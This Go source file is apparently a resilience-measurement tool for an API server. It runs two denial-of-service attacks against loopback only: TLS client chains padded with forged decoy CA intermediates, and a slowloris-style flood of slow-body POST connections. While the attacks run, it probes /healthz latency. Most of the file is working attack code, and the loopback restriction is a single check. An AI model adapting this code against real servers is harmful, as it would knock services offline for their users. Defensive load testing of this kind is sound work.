// Command hostile measures how the example API server keeps its health
// endpoint answering under two attacks of issue 24, on loopback only,
// bounded in time and connections. It is a measurement tool, not a test:
// run the server first (see the -attack help), then this.
//
//	hostile -attack chains -server https://127.0.0.1:8443 -ca ca.crt
//	hostile -attack slowbody -server http://127.0.0.1:8080 -conns 15000
//
// chains: -clients clients each present a certificate nobody trusts
// followed by -decoys intermediates that claim to be the CA of -ca (a
// public certificate: its name and key id are all they copy), and send
// requests as fast as the server answers (or -rate a second), each on
// its own kept-alive connection. Meanwhile a probe GETs /healthz every -probe-interval on a
// kept-alive connection and on a new one, and reports latency
// percentiles. Start the server with -client-ca-file and
// -requestheader-client-ca-file both set to ca.crt.
//
// slowbody: connections from -from (loopback addresses, 127.0.0.2 by
// default) send the headers of a large POST and then one byte of body
// every -trickle: -conns connections opened at once, each held until the
// server answers or closes it (and then, with -reopen, opened again after
// that long: a storm of new connections, which this server does not
// rate-limit). Meanwhile the probe GETs /healthz every -probe-interval on
// a new connection from 127.0.0.1, with a one-second timeout, and reports
// latency percentiles and failures. Mind the open-file limits: of the
// server (start it under a lower limit, say ulimit -n 4096, to reach it)
// and of this process (-conns must stay under it).
package main

import (
	"bufio"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"flag"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/apisem/apisem/auth/certs"
)

func main() {
	attack := flag.String("attack", "chains", "chains or slowbody")
	server := flag.String("server", "https://127.0.0.1:8443", "the server's base URL (loopback only)")
	caFile := flag.String("ca", "", "chains: the client CA the server trusts (its name and key id are copied into the decoys)")
	clients := flag.Int("clients", 6, "chains: hostile clients")
	decoys := flag.Int("decoys", 100, "chains: decoy intermediates each hostile client sends")
	rate := flag.Float64("rate", 0, "chains: requests per second of each hostile client (0: as fast as the server answers)")
	withCert := flag.Bool("cert", true, "chains: present the certificate (false: the same clients without one, a control)")
	conns := flag.Int("conns", 15000, "slowbody: connections held open at once")
	from := flag.String("from", "127.0.0.2", "slowbody: comma-separated loopback addresses the attack comes from")
	trickle := flag.Duration("trickle", 5*time.Second, "slowbody: time between two bytes of a body")
	reopen := flag.Duration("reopen", 0, "slowbody: how long to wait before opening a new connection in place of one the server closed or refused (0: none is reopened)")
	duration := flag.Duration("duration", 30*time.Second, "how long the attack lasts")
	warmup := flag.Duration("warmup", 5*time.Second, "how long the attack runs before the probe starts")
	interval := flag.Duration("probe-interval", 20*time.Millisecond, "time between two probes")
	flag.Parse()

	u, err := url.Parse(*server)
	if err != nil {
		log.Fatal(err)
	}
	if ip := net.ParseIP(u.Hostname()); ip == nil || !ip.IsLoopback() {
		log.Fatalf("%s: loopback addresses only", *server)
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	var probes []*probe
	switch *attack {
	case "chains":
		chainAttack(u, *caFile, *clients, *decoys, *rate, *withCert, stop, &wg)
		probes = []*probe{
			{name: "/healthz, kept-alive connection", client: probeClient(u, true)},
			{name: "/healthz, new connection", client: probeClient(u, false)},
		}
	case "slowbody":
		slowBodyAttack(u, strings.Split(*from, ","), *conns, *trickle, *reopen, stop, &wg)
		probes = []*probe{{name: "/healthz, new connection from 127.0.0.1", client: probeClient(u, false)}}
	default:
		log.Fatalf("unknown attack %q", *attack)
	}
	fmt.Fprintf(os.Stderr, "attack %s running; probing in %v\n", *attack, *warmup)
	time.Sleep(*warmup)
	end := time.Now().Add(*duration - *warmup)
	var pw sync.WaitGroup
	for _, p := range probes {
		pw.Add(1)
		go func() {
			defer pw.Done()
			p.run(u.String()+"/healthz", *interval, end)
		}()
	}
	pw.Wait()
	close(stop)
	fmt.Printf("attack %s for %v (probes in its last %v)\n", *attack, *duration, *duration-*warmup)
	if *attack == "slowbody" {
		fmt.Printf("attack connections: %d opened, %d answered or closed by the server, %d failed to connect, %d open at the end\n",
			opened.Load(), closedByServer.Load(), dialFailed.Load(), open.Load())
	}
	if *attack == "chains" {
		fmt.Printf("hostile requests answered: %d\n", hostileRequests.Load())
	}
	for _, p := range probes {
		p.report()
	}
	wg.Wait()
}

// probeClient is a client for the probe: kept-alive connections or a new
// one per request, from 127.0.0.1, with a one-second timeout.
func probeClient(u *url.URL, keepAlive bool) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)}}
	return &http.Client{
		Timeout: time.Second,
		Transport: &http.Transport{
			DialContext:       d.DialContext,
			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true}, // loopback, self-signed
			DisableKeepAlives: !keepAlive,
		},
	}
}

// probe GETs a URL at intervals and records how long each answer took.
type probe struct {
	name     string
	client   *http.Client
	took     []time.Duration
	failures map[string]int
}

func (p *probe) run(target string, interval time.Duration, end time.Time) {
	p.failures = map[string]int{}
	for t := time.NewTicker(interval); time.Now().Before(end); <-t.C {
		start := time.Now()
		resp, err := p.client.Get(target)
		if err == nil {
			_, err = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if err == nil && resp.StatusCode != 200 {
				err = fmt.Errorf("status %d", resp.StatusCode)
			}
		}
		if err != nil {
			msg := err.Error()
			if i := strings.LastIndex(msg, ": "); i >= 0 {
				msg = msg[i+2:]
			}
			p.failures[msg]++
			continue
		}
		p.took = append(p.took, time.Since(start))
	}
}

func (p *probe) report() {
	slices.Sort(p.took)
	pct := func(q float64) time.Duration {
		if len(p.took) == 0 {
			return 0
		}
		return p.took[min(len(p.took)-1, int(q*float64(len(p.took))))]
	}
	fail := 0
	for _, n := range p.failures {
		fail += n
	}
	fmt.Printf("%s: %d answered, %d failed; p50 %v, p90 %v, p99 %v, max %v\n", p.name, len(p.took), fail,
		pct(0.5).Round(10*time.Microsecond), pct(0.9).Round(10*time.Microsecond), pct(0.99).Round(10*time.Microsecond),
		pct(1).Round(10*time.Microsecond))
	for msg, n := range p.failures {
		fmt.Printf("  %d× %s\n", n, msg)
	}
}

var hostileRequests atomic.Int64

// chainAttack starts the hostile clients of the chains attack.
func chainAttack(u *url.URL, caFile string, clients, n int, rate float64, withCert bool, stop chan struct{}, wg *sync.WaitGroup) {
	pem, err := os.ReadFile(caFile)
	if err != nil {
		log.Fatal(err)
	}
	cas, err := certs.ParseCertsPEM(pem)
	if err != nil || len(cas) == 0 {
		log.Fatalf("%s: no certificate: %v", caFile, err)
	}
	trusted := cas[0]
	// A certificate issued in the CA's exact name by a key of the
	// attacker's, then the decoys.
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		log.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "mallory"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
	}
	leaf, err := x509.CreateCertificate(rand.Reader, tmpl, &x509.Certificate{RawSubject: trusted.RawSubject}, key.Public(), key)
	if err != nil {
		log.Fatal(err)
	}
	chain := [][]byte{leaf}
	for i := range n {
		chain = append(chain, decoy(trusted, i))
	}
	cert := &tls.Certificate{Certificate: chain, PrivateKey: key}
	// Sent whatever CAs the server names.
	send := func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return cert, nil }
	if !withCert {
		send = nil
	}
	for range clients {
		c := &http.Client{Transport: &http.Transport{
			TLSClientConfig: &tls.Config{InsecureSkipVerify: true, GetClientCertificate: send},
		}}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer c.CloseIdleConnections()
			var tick <-chan time.Time
			if rate > 0 {
				t := time.NewTicker(time.Duration(float64(time.Second) / rate))
				defer t.Stop()
				tick = t.C
			}
			for {
				select {
				case <-stop:
					return
				default:
				}
				if tick != nil {
					select {
					case <-stop:
						return
					case <-tick:
					}
				}
				resp, err := c.Get(u.String() + "/api/v1/namespaces")
				if err != nil {
					continue
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				hostileRequests.Add(1)
			}
		}()
	}
}

// decoy returns a CA certificate with the subject and key id of ca and a
// key of its own.
func decoy(ca *x509.Certificate, i int) []byte {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		log.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(int64(i + 2)), RawSubject: ca.RawSubject, SubjectKeyId: ca.SubjectKeyId,
		NotBefore: ca.NotBefore, NotAfter: ca.NotAfter, KeyUsage: x509.KeyUsageCertSign,
		BasicConstraintsValid: true, IsCA: true,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Public(), key)
	if err != nil {
		log.Fatal(err)
	}
	return der
}

var opened, closedByServer, dialFailed, open atomic.Int64

// slowBodyAttack keeps up to conns slow-body connections open from the
// addresses from, spread over them.
func slowBodyAttack(u *url.URL, from []string, conns int, trickle, reopen time.Duration, stop chan struct{}, wg *sync.WaitGroup) {
	head := "POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: " + u.Host +
		"\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"
	for i := range conns {
		d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(strings.TrimSpace(from[i%len(from)]))}, Timeout: time.Second}
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				holdSlowBody(u, d, head, trickle, stop)
				if reopen <= 0 {
					return
				}
				time.Sleep(reopen)
			}
		}()
	}
}

// holdSlowBody sends a slow body on one connection until the server
// closes it or the attack stops.
func holdSlowBody(u *url.URL, d *net.Dialer, head string, trickle time.Duration, stop chan struct{}) {
	c, err := d.Dial("tcp", u.Host)
	if err != nil {
		dialFailed.Add(1)
		return
	}
	opened.Add(1)
	open.Add(1)
	defer open.Add(-1)
	defer c.Close()
	if u.Scheme == "https" {
		tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true})
		c = tc
	}
	if _, err := io.WriteString(c, head); err != nil {
		closedByServer.Add(1)
		return
	}
	answered := make(chan struct{})
	go func() {
		defer close(answered)
		bufio.NewReader(c).ReadByte() // an answer or a close
	}()
	t := time.NewTicker(trickle)
	defer t.Stop()
	for {
		select {
		case <-stop:
			return
		case <-answered:
			closedByServer.Add(1)
			return
		case <-t.C:
			if _, err := c.Write([]byte(" ")); err != nil {
				closedByServer.Add(1)
				return
			}
		}
	}
}
